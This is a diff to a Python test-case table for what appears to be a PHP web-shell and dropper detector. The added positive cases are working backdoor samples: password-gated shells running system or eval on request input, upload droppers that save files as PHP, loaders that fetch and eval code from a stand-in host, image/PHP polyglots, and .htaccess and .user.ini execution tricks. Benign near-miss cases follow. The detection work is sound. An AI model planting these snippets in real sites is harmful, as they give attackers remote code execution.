@@ -1243,21 +1243,21 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),  # a/f05.php embedded
     (
-        "SPAMGEAR_INPUT_SmallInputAndSink",
+        "SPAMGEAR_PASSGATE_GatedSink",
         plain(
             "<?php\n$pw = $_REQUEST['pw'];\nif (md5($pw) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') {\n  $c = $_REQUEST['c'];\n  echo '<pre>' . shell_exec($c) . '</pre>';\n}\n"
         ),
         True,
     ),  # a/f06.php
     (
-        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_PASSGATE_GatedSink",
         padded(
             "<?php\n$pw = $_REQUEST['pw'];\nif (md5($pw) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') {\n  $c = $_REQUEST['c'];\n  echo '<pre>' . shell_exec($c) . '</pre>';\n}\n"
         ),
         True,
     ),  # a/f06.php padded
     (
-        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_PASSGATE_GatedSink",
         embedded(
             "<?php\n$pw = $_REQUEST['pw'];\nif (md5($pw) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') {\n  $c = $_REQUEST['c'];\n  echo '<pre>' . shell_exec($c) . '</pre>';\n}\n"
         ),
@@ -1596,21 +1596,21 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),  # a/f22.php embedded
     (
-        "SPAMGEAR_INPUT_ShellOfInput",
+        "SPAMGEAR_PASSGATE_GatedSink",
         plain(
             "<?php $p = @$_GET['pass']; if (isset($p) && md5($p) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { echo '<form method=post><input name=c><input type=submit></form>'; if (isset($_POST['c'])) system($_POST['c']); }"
         ),
         True,
     ),  # a/f23.php
     (
-        "SPAMGEAR_INPUT_ShellOfInput",
+        "SPAMGEAR_PASSGATE_GatedSink",
         padded(
             "<?php $p = @$_GET['pass']; if (isset($p) && md5($p) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { echo '<form method=post><input name=c><input type=submit></form>'; if (isset($_POST['c'])) system($_POST['c']); }"
         ),
         True,
     ),  # a/f23.php padded
     (
-        "SPAMGEAR_INPUT_ShellOfInput",
+        "SPAMGEAR_PASSGATE_GatedSink",
         embedded(
             "<?php $p = @$_GET['pass']; if (isset($p) && md5($p) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { echo '<form method=post><input name=c><input type=submit></form>'; if (isset($_POST['c'])) system($_POST['c']); }"
         ),
@@ -3039,21 +3039,21 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),  # c/n01.php embedded
     (
-        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_PASSGATE_GatedSink",
         plain(
             "<?php $k = @$_SERVER['HTTP_X_API_KEY']; if (hash('sha1', $k) == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval(base64_decode(file_get_contents('php://input'))); }"
         ),
         True,
     ),  # c/n02.php
     (
-        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_PASSGATE_GatedSink",
         padded(
             "<?php $k = @$_SERVER['HTTP_X_API_KEY']; if (hash('sha1', $k) == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval(base64_decode(file_get_contents('php://input'))); }"
         ),
         True,
     ),  # c/n02.php padded
     (
-        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_PASSGATE_GatedSink",
         embedded(
             "<?php $k = @$_SERVER['HTTP_X_API_KEY']; if (hash('sha1', $k) == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval(base64_decode(file_get_contents('php://input'))); }"
         ),
@@ -3579,6 +3579,432 @@ CASES: list[tuple[str, bytes, bool]] = [
         ),
         True,
     ),  # c/z06.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        plain(
+            "<?php if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'cache.php'); echo 'ok'; }"
+        ),
+        True,
+    ),  # d/v01.php
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        padded(
+            "<?php if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'cache.php'); echo 'ok'; }"
+        ),
+        True,
+    ),  # d/v01.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        embedded(
+            "<?php if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'cache.php'); echo 'ok'; }"
+        ),
+        True,
+    ),  # d/v01.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        plain(
+            "<?php\n$sn = \"wp-options.php\";\n$title = 'Media';\n$desc = 'Upload media files';\nfunction up($sn) {\n    if (isset($_FILES['u'])) {\n        if (move_uploaded_file($_FILES[\"u\"][\"tmp_name\"], $sn)) { echo \"<a href='$sn'>$sn</a>\"; }\n    }\n}\nup($sn);\n"
+        ),
+        True,
+    ),  # d/v02.php
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        padded(
+            "<?php\n$sn = \"wp-options.php\";\n$title = 'Media';\n$desc = 'Upload media files';\nfunction up($sn) {\n    if (isset($_FILES['u'])) {\n        if (move_uploaded_file($_FILES[\"u\"][\"tmp_name\"], $sn)) { echo \"<a href='$sn'>$sn</a>\"; }\n    }\n}\nup($sn);\n"
+        ),
+        True,
+    ),  # d/v02.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        embedded(
+            "<?php\n$sn = \"wp-options.php\";\n$title = 'Media';\n$desc = 'Upload media files';\nfunction up($sn) {\n    if (isset($_FILES['u'])) {\n        if (move_uploaded_file($_FILES[\"u\"][\"tmp_name\"], $sn)) { echo \"<a href='$sn'>$sn</a>\"; }\n    }\n}\nup($sn);\n"
+        ),
+        True,
+    ),  # d/v02.php embedded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain(
+            "<?php session_start();\n$pw = \"c4ca4238a0b923820dcc509a6f75849b\";\nif (isset($_POST['pass']) && $pw == md5($_POST['pass'])) { $_SESSION['ok'] = 1; }\nif (@$_SESSION['ok']) { echo '<pre>'; echo shell_exec($_POST['c']); }\n"
+        ),
+        True,
+    ),  # d/v03.php
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded(
+            "<?php session_start();\n$pw = \"c4ca4238a0b923820dcc509a6f75849b\";\nif (isset($_POST['pass']) && $pw == md5($_POST['pass'])) { $_SESSION['ok'] = 1; }\nif (@$_SESSION['ok']) { echo '<pre>'; echo shell_exec($_POST['c']); }\n"
+        ),
+        True,
+    ),  # d/v03.php padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded(
+            "<?php session_start();\n$pw = \"c4ca4238a0b923820dcc509a6f75849b\";\nif (isset($_POST['pass']) && $pw == md5($_POST['pass'])) { $_SESSION['ok'] = 1; }\nif (@$_SESSION['ok']) { echo '<pre>'; echo shell_exec($_POST['c']); }\n"
+        ),
+        True,
+    ),  # d/v03.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain("<?php file_put_contents(basename($_GET['u']), file_get_contents($_GET['u'])); echo 'ok';"),
+        True,
+    ),  # d/v05.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded("<?php file_put_contents(basename($_GET['u']), file_get_contents($_GET['u'])); echo 'ok';"),
+        True,
+    ),  # d/v05.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded("<?php file_put_contents(basename($_GET['u']), file_get_contents($_GET['u'])); echo 'ok';"),
+        True,
+    ),  # d/v05.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php $h = fopen('http://files.example.biz/y.txt', 'r'); $c = stream_get_contents($h); fclose($h); file_put_contents('../index.php', $c);"
+        ),
+        True,
+    ),  # d/v07.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $h = fopen('http://files.example.biz/y.txt', 'r'); $c = stream_get_contents($h); fclose($h); file_put_contents('../index.php', $c);"
+        ),
+        True,
+    ),  # d/v07.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $h = fopen('http://files.example.biz/y.txt', 'r'); $c = stream_get_contents($h); fclose($h); file_put_contents('../index.php', $c);"
+        ),
+        True,
+    ),  # d/v07.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$d = @file_get_contents('https://files.example.biz/p.txt');\n$f = dirname(__FILE__) . '/readme.txt';\n@file_put_contents($f, $d);\n@include $f;\n"
+        ),
+        True,
+    ),  # d/v08.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$d = @file_get_contents('https://files.example.biz/p.txt');\n$f = dirname(__FILE__) . '/readme.txt';\n@file_put_contents($f, $d);\n@include $f;\n"
+        ),
+        True,
+    ),  # d/v08.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$d = @file_get_contents('https://files.example.biz/p.txt');\n$f = dirname(__FILE__) . '/readme.txt';\n@file_put_contents($f, $d);\n@include $f;\n"
+        ),
+        True,
+    ),  # d/v08.php embedded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        plain(
+            "<?php if (md5($_GET['pass']) != 'c4ca4238a0b923820dcc509a6f75849b') { header('HTTP/1.1 404 Not Found'); die('404'); }\n$x = $_POST['x'];\n$r = base64_decode($x);\neval($r);\n"
+        ),
+        True,
+    ),  # d/v09.php
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        padded(
+            "<?php if (md5($_GET['pass']) != 'c4ca4238a0b923820dcc509a6f75849b') { header('HTTP/1.1 404 Not Found'); die('404'); }\n$x = $_POST['x'];\n$r = base64_decode($x);\neval($r);\n"
+        ),
+        True,
+    ),  # d/v09.php padded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        embedded(
+            "<?php if (md5($_GET['pass']) != 'c4ca4238a0b923820dcc509a6f75849b') { header('HTTP/1.1 404 Not Found'); die('404'); }\n$x = $_POST['x'];\n$r = base64_decode($x);\neval($r);\n"
+        ),
+        True,
+    ),  # d/v09.php embedded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain(
+            "<?php if (substr(sha1($_SERVER['HTTP_X_KEY']), 0, 10) == 'abcdef1234') { echo system($_SERVER['HTTP_X_C']); }"
+        ),
+        True,
+    ),  # d/v10.php
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded(
+            "<?php if (substr(sha1($_SERVER['HTTP_X_KEY']), 0, 10) == 'abcdef1234') { echo system($_SERVER['HTTP_X_C']); }"
+        ),
+        True,
+    ),  # d/v10.php padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded(
+            "<?php if (substr(sha1($_SERVER['HTTP_X_KEY']), 0, 10) == 'abcdef1234') { echo system($_SERVER['HTTP_X_C']); }"
+        ),
+        True,
+    ),  # d/v10.php embedded
+    (
+        "SPAMGEAR_POLYGLOT_ImageWithPhp",
+        b"GIF89a\x01\x00\x01\x00<?PHP SYSTEM($_GET['c']); ?>",
+        True,
+    ),  # d/v11.gif
+    (
+        "SPAMGEAR_POLYGLOT_ImageWithPhp",
+        b"\x00\x00\x01\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00<?php @eval($_COOKIE['e']); ?>",
+        True,
+    ),  # d/v12.ico
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddType application/x-httpd-php .jpg\r\n"),
+        True,
+    ),  # d/v13.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddType application/x-httpd-php .jpg\r\n"),
+        True,
+    ),  # d/v13.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('AddHandler "application/x-httpd-php" .gif\n'),
+        True,
+    ),  # d/v14.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('AddHandler "application/x-httpd-php" .gif\n'),
+        True,
+    ),  # d/v14.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('<FilesMatch "\\.(jpg)$">\r\n SetHandler application/x-httpd-php\r\n</FilesMatch>\r\n'),
+        True,
+    ),  # d/v15.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('<FilesMatch "\\.(jpg)$">\r\n SetHandler application/x-httpd-php\r\n</FilesMatch>\r\n'),
+        True,
+    ),  # d/v15.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain("auto_prepend_file='/home/u/public_html/wp-content/uploads/wpforms/cache/index.html'\n"),
+        True,
+    ),  # d/v16.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded("auto_prepend_file='/home/u/public_html/wp-content/uploads/wpforms/cache/index.html'\n"),
+        True,
+    ),  # d/v16.user.ini padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("addtype application/x-httpd-php .jpg\n"),
+        True,
+    ),  # d/v17.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("addtype application/x-httpd-php .jpg\n"),
+        True,
+    ),  # d/v17.htaccess padded
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain(
+            "<?php if (isset($_FILES['f'])) { $n = $_FILES['f']['name']; $t = $_FILES['f']['tmp_name']; move_uploaded_file($t, \"./$n\"); echo \"ok\"; }"
+        ),
+        True,
+    ),  # d/v18.php
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded(
+            "<?php if (isset($_FILES['f'])) { $n = $_FILES['f']['name']; $t = $_FILES['f']['tmp_name']; move_uploaded_file($t, \"./$n\"); echo \"ok\"; }"
+        ),
+        True,
+    ),  # d/v18.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        plain(
+            "<form enctype='multipart/form-data' method='post'><input type='file' name='up'><input type='submit' value='Send'></form>\n<?php if (is_uploaded_file(@$_FILES['up']['tmp_name'])) { @rename($_FILES['up']['tmp_name'], $_FILES['up']['name']); echo 'sent'; } ?>"
+        ),
+        True,
+    ),  # d/v19.php
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        padded(
+            "<form enctype='multipart/form-data' method='post'><input type='file' name='up'><input type='submit' value='Send'></form>\n<?php if (is_uploaded_file(@$_FILES['up']['tmp_name'])) { @rename($_FILES['up']['tmp_name'], $_FILES['up']['name']); echo 'sent'; } ?>"
+        ),
+        True,
+    ),  # d/v19.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        embedded(
+            "<form enctype='multipart/form-data' method='post'><input type='file' name='up'><input type='submit' value='Send'></form>\n<?php if (is_uploaded_file(@$_FILES['up']['tmp_name'])) { @rename($_FILES['up']['tmp_name'], $_FILES['up']['name']); echo 'sent'; } ?>"
+        ),
+        True,
+    ),  # d/v19.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $u = $_POST['url']; $f = $_POST['file']; copy($u, $f); echo file_exists($f) ? 'OK' : 'FAIL';"
+        ),
+        True,
+    ),  # d/v20.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $u = $_POST['url']; $f = $_POST['file']; copy($u, $f); echo file_exists($f) ? 'OK' : 'FAIL';"
+        ),
+        True,
+    ),  # d/v20.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $u = $_POST['url']; $f = $_POST['file']; copy($u, $f); echo file_exists($f) ? 'OK' : 'FAIL';"
+        ),
+        True,
+    ),  # d/v20.php embedded
+    (
+        "SPAMGEAR_TINY_EvalOfFileContents",
+        plain("<?php eval(file_get_contents('http://files.example.biz/e.txt'));"),
+        True,
+    ),  # d/v21.php
+    (
+        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
+        padded("<?php eval(file_get_contents('http://files.example.biz/e.txt'));"),
+        True,
+    ),  # d/v21.php padded
+    (
+        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
+        embedded("<?php eval(file_get_contents('http://files.example.biz/e.txt'));"),
+        True,
+    ),  # d/v21.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, \"http://files.example.biz/c.txt\");\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$x = curl_exec($ch);\ncurl_close($ch);\neval('?>' . $x);\n"
+        ),
+        True,
+    ),  # d/v22.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, \"http://files.example.biz/c.txt\");\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$x = curl_exec($ch);\ncurl_close($ch);\neval('?>' . $x);\n"
+        ),
+        True,
+    ),  # d/v22.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, \"http://files.example.biz/c.txt\");\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$x = curl_exec($ch);\ncurl_close($ch);\neval('?>' . $x);\n"
+        ),
+        True,
+    ),  # d/v22.php embedded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        plain(
+            "<?php $f = 'tmp_' . rand() . '.php'; $fp = fopen($f, 'w'); fwrite($fp, $_POST['code']); fclose($fp); include($f); unlink($f);"
+        ),
+        True,
+    ),  # d/v23.php
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        padded(
+            "<?php $f = 'tmp_' . rand() . '.php'; $fp = fopen($f, 'w'); fwrite($fp, $_POST['code']); fclose($fp); include($f); unlink($f);"
+        ),
+        True,
+    ),  # d/v23.php padded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        embedded(
+            "<?php $f = 'tmp_' . rand() . '.php'; $fp = fopen($f, 'w'); fwrite($fp, $_POST['code']); fclose($fp); include($f); unlink($f);"
+        ),
+        True,
+    ),  # d/v23.php embedded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain(
+            "<?php if (isset($_GET['debug']) && $_GET['debug'] == 'a1b2c3') { @eval(stripslashes($_POST['d'])); }"
+        ),
+        True,
+    ),  # d/v24.php
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded(
+            "<?php if (isset($_GET['debug']) && $_GET['debug'] == 'a1b2c3') { @eval(stripslashes($_POST['d'])); }"
+        ),
+        True,
+    ),  # d/v24.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded(
+            "<?php if (isset($_GET['debug']) && $_GET['debug'] == 'a1b2c3') { @eval(stripslashes($_POST['d'])); }"
+        ),
+        True,
+    ),  # d/v24.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain(
+            "<?php\n$user = $_POST['u'];\n$pass = $_POST['p'];\nif (md5($user) == 'c4ca4238a0b923820dcc509a6f75849b' && md5($pass) == 'c4ca4238a0b923820dcc509a6f75849b') {\n    $f = $_FILES['x'];\n    move_uploaded_file($f['tmp_name'], $f['name']);\n}\n"
+        ),
+        True,
+    ),  # d/v25.php
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded(
+            "<?php\n$user = $_POST['u'];\n$pass = $_POST['p'];\nif (md5($user) == 'c4ca4238a0b923820dcc509a6f75849b' && md5($pass) == 'c4ca4238a0b923820dcc509a6f75849b') {\n    $f = $_FILES['x'];\n    move_uploaded_file($f['tmp_name'], $f['name']);\n}\n"
+        ),
+        True,
+    ),  # d/v25.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain("<?php if ($_SERVER['REMOTE_ADDR'] == '203.0.113.5') { eval(base64_decode($_POST['p'])); }"),
+        True,
+    ),  # d/v26.php
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded("<?php if ($_SERVER['REMOTE_ADDR'] == '203.0.113.5') { eval(base64_decode($_POST['p'])); }"),
+        True,
+    ),  # d/v26.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded("<?php if ($_SERVER['REMOTE_ADDR'] == '203.0.113.5') { eval(base64_decode($_POST['p'])); }"),
+        True,
+    ),  # d/v26.php embedded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain(
+            "<?php if (strstr($_SERVER['HTTP_REFERER'], 'x-panel.example')) { assert(base64_decode($_REQUEST['a'])); }"
+        ),
+        True,
+    ),  # d/v27.php
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded(
+            "<?php if (strstr($_SERVER['HTTP_REFERER'], 'x-panel.example')) { assert(base64_decode($_REQUEST['a'])); }"
+        ),
+        True,
+    ),  # d/v27.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded(
+            "<?php if (strstr($_SERVER['HTTP_REFERER'], 'x-panel.example')) { assert(base64_decode($_REQUEST['a'])); }"
+        ),
+        True,
+    ),  # d/v27.php embedded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddType text/html .php\nAddHandler application/x-httpd-php .png .bmp\n"),
+        True,
+    ),  # d/v28.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddType text/html .php\nAddHandler application/x-httpd-php .png .bmp\n"),
+        True,
+    ),  # d/v28.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain('auto_append_file = "/home/u/tmp/analytics.js"\n'),
+        True,
+    ),  # d/v29.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded('auto_append_file = "/home/u/tmp/analytics.js"\n'),
+        True,
+    ),  # d/v29.user.ini padded
     # near-misses: legit code beside the shapes above
     (
         "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
@@ -4087,21 +4513,99 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
         plain(
-            "<?php\nfile_put_contents($svg, base64_decode($icon));\n$w = 16;\n$h = 16;\n$title = 'icon';\n$alt = '';\n$class = 'x';\n$id = 'y';\ninclude $template;\n"
+            "<?php\nfile_put_contents($svg_path, base64_decode($icon_data));\n$icon_width = isset($args['width']) ? (int) $args['width'] : 16;\n$icon_height = isset($args['height']) ? (int) $args['height'] : 16;\n$icon_title = esc_attr($args['title']);\n$icon_class = 'menu-icon ' . sanitize_html_class($args['class']);\ninclude $template;\n"
         ),
         False,
     ),
     (
         "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
         padded(
-            "<?php\nfile_put_contents($svg, base64_decode($icon));\n$w = 16;\n$h = 16;\n$title = 'icon';\n$alt = '';\n$class = 'x';\n$id = 'y';\ninclude $template;\n"
+            "<?php\nfile_put_contents($svg_path, base64_decode($icon_data));\n$icon_width = isset($args['width']) ? (int) $args['width'] : 16;\n$icon_height = isset($args['height']) ? (int) $args['height'] : 16;\n$icon_title = esc_attr($args['title']);\n$icon_class = 'menu-icon ' . sanitize_html_class($args['class']);\ninclude $template;\n"
         ),
         False,
     ),
     (
         "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
         embedded(
-            "<?php\nfile_put_contents($svg, base64_decode($icon));\n$w = 16;\n$h = 16;\n$title = 'icon';\n$alt = '';\n$class = 'x';\n$id = 'y';\ninclude $template;\n"
+            "<?php\nfile_put_contents($svg_path, base64_decode($icon_data));\n$icon_width = isset($args['width']) ? (int) $args['width'] : 16;\n$icon_height = isset($args['height']) ? (int) $args['height'] : 16;\n$icon_title = esc_attr($args['title']);\n$icon_class = 'menu-icon ' . sanitize_html_class($args['class']);\ninclude $template;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        plain(
+            "<?php\n$parent_file = 'upload.php';\n$labels[0] = __('Label number 0', 'textdomain');\n$labels[1] = __('Label number 1', 'textdomain');\n$labels[2] = __('Label number 2', 'textdomain');\n$labels[3] = __('Label number 3', 'textdomain');\n$labels[4] = __('Label number 4', 'textdomain');\n$labels[5] = __('Label number 5', 'textdomain');\n$labels[6] = __('Label number 6', 'textdomain');\n$labels[7] = __('Label number 7', 'textdomain');\n$labels[8] = __('Label number 8', 'textdomain');\n$labels[9] = __('Label number 9', 'textdomain');\n$labels[10] = __('Label number 10', 'textdomain');\n$labels[11] = __('Label number 11', 'textdomain');\n$labels[12] = __('Label number 12', 'textdomain');\n$labels[13] = __('Label number 13', 'textdomain');\n$new_file = $uploads['path'] . '/' . wp_unique_filename($uploads['path'], $name);\nmove_uploaded_file($_FILES['async-upload']['tmp_name'], $new_file);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        padded(
+            "<?php\n$parent_file = 'upload.php';\n$labels[0] = __('Label number 0', 'textdomain');\n$labels[1] = __('Label number 1', 'textdomain');\n$labels[2] = __('Label number 2', 'textdomain');\n$labels[3] = __('Label number 3', 'textdomain');\n$labels[4] = __('Label number 4', 'textdomain');\n$labels[5] = __('Label number 5', 'textdomain');\n$labels[6] = __('Label number 6', 'textdomain');\n$labels[7] = __('Label number 7', 'textdomain');\n$labels[8] = __('Label number 8', 'textdomain');\n$labels[9] = __('Label number 9', 'textdomain');\n$labels[10] = __('Label number 10', 'textdomain');\n$labels[11] = __('Label number 11', 'textdomain');\n$labels[12] = __('Label number 12', 'textdomain');\n$labels[13] = __('Label number 13', 'textdomain');\n$new_file = $uploads['path'] . '/' . wp_unique_filename($uploads['path'], $name);\nmove_uploaded_file($_FILES['async-upload']['tmp_name'], $new_file);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        embedded(
+            "<?php\n$parent_file = 'upload.php';\n$labels[0] = __('Label number 0', 'textdomain');\n$labels[1] = __('Label number 1', 'textdomain');\n$labels[2] = __('Label number 2', 'textdomain');\n$labels[3] = __('Label number 3', 'textdomain');\n$labels[4] = __('Label number 4', 'textdomain');\n$labels[5] = __('Label number 5', 'textdomain');\n$labels[6] = __('Label number 6', 'textdomain');\n$labels[7] = __('Label number 7', 'textdomain');\n$labels[8] = __('Label number 8', 'textdomain');\n$labels[9] = __('Label number 9', 'textdomain');\n$labels[10] = __('Label number 10', 'textdomain');\n$labels[11] = __('Label number 11', 'textdomain');\n$labels[12] = __('Label number 12', 'textdomain');\n$labels[13] = __('Label number 13', 'textdomain');\n$new_file = $uploads['path'] . '/' . wp_unique_filename($uploads['path'], $name);\nmove_uploaded_file($_FILES['async-upload']['tmp_name'], $new_file);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        plain("<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name . '.jpg');\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        padded("<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name . '.jpg');\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        embedded("<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name . '.jpg');\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        plain(
+            "<?php\n$admin_hash = '5f4dcc3b5aa765d61d8327deb882cf99';\nif (md5($_POST['password']) == $admin_hash) { $_SESSION['admin'] = true; }\nfile_put_contents($log, date('c') . \" login\\n\", FILE_APPEND);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        padded(
+            "<?php\n$admin_hash = '5f4dcc3b5aa765d61d8327deb882cf99';\nif (md5($_POST['password']) == $admin_hash) { $_SESSION['admin'] = true; }\nfile_put_contents($log, date('c') . \" login\\n\", FILE_APPEND);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        embedded(
+            "<?php\n$admin_hash = '5f4dcc3b5aa765d61d8327deb882cf99';\nif (md5($_POST['password']) == $admin_hash) { $_SESSION['admin'] = true; }\nfile_put_contents($log, date('c') . \" login\\n\", FILE_APPEND);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        plain(
+            "<?php\n$data = $_POST['payload'];\nif (md5($data) === 'd41d8cd98f00b204e9800998ecf8427e') { fwrite($fh, 'empty'); }\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        padded(
+            "<?php\n$data = $_POST['payload'];\nif (md5($data) === 'd41d8cd98f00b204e9800998ecf8427e') { fwrite($fh, 'empty'); }\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        embedded(
